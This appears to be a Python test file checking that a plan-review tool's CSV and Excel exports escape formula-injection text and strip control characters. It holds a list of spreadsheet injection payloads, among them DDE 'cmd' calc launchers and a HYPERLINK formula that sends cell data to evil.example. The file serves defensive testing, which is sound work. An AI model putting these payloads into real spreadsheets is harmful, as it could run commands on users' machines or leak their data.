"""Issue #14, formula injection: no spreadsheet or CSV plancheck writes turns document text, file or folder
names into formulas, and control characters in them do not stop the writing."""
from __future__ import annotations

import io
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from test_batch import _locality
from test_coverage import _plan

from plancheck.compare.coverage import coverage
from plancheck.batch import run_batch
from plancheck.reports.coverage_report import coverage_xlsx_bytes
from plancheck.reports.spreadsheet import csv_bytes, workbook_bytes

ATTACKS = ("=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1", '=HYPERLINK("http://evil.example/?"&B3,"详见")')


def _cells(data: bytes) -> list:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("text", ATTACKS)
def test_csv_cells_starting_like_a_formula_are_text(text: str) -> None:
    frame = pd.DataFrame({"地区": [text, "示例县"], "任务数": [-3, 4]})
    read = pd.read_csv(io.BytesIO(csv_bytes(frame)), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert list(read["地区"]) == ["'" + text, "示例县"]
    assert list(read["任务数"]) == ["-3", "4"]  # numbers stay numbers


def test_workbook_text_is_never_a_formula_and_control_characters_go() -> None:
    frame = pd.DataFrame({"地区": [*ATTACKS, "青松县\x07\x1b"]})
    cells = _cells(workbook_bytes({"汇总": frame}))
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert [cell.value for cell in cells[1:]] == [*ATTACKS, "青松县"]


def test_coverage_workbook_keeps_scheme_text_as_text() -> None:
    scheme = _plan(None, [ATTACKS[-1], "加强行政执法监督"], kind="scheme")
    cov = coverage(scheme, [_plan(2024, ["加强行政执法监督"])])
    cells = _cells(coverage_xlsx_bytes(cov))
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert ATTACKS[-1] in {cell.value for cell in cells}


def test_batch_summary_neutralises_locality_names_and_survives_control_characters(tmp_path: Path) -> None:
    root = tmp_path / "plans"
    _locality(root / "=cmd|' calc'!A0", "白桦市", years=(2024,), scheme=False)
    _locality(root / "青松县\x07", "青松县", years=(2024,), scheme=False)
    result = run_batch(root, tmp_path / "out", jobs=1)
    summary = pd.read_csv(result.files["csv"], encoding="utf-8-sig", dtype=str)
    assert sorted(summary["地区"]) == sorted(["'=cmd|' calc'!A0", "青松县"])
    cells = _cells(result.files["xlsx"].read_bytes())
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert {"=cmd|' calc'!A0", "青松县"} <= {cell.value for cell in cells}
    assert result.files["index"].is_file()
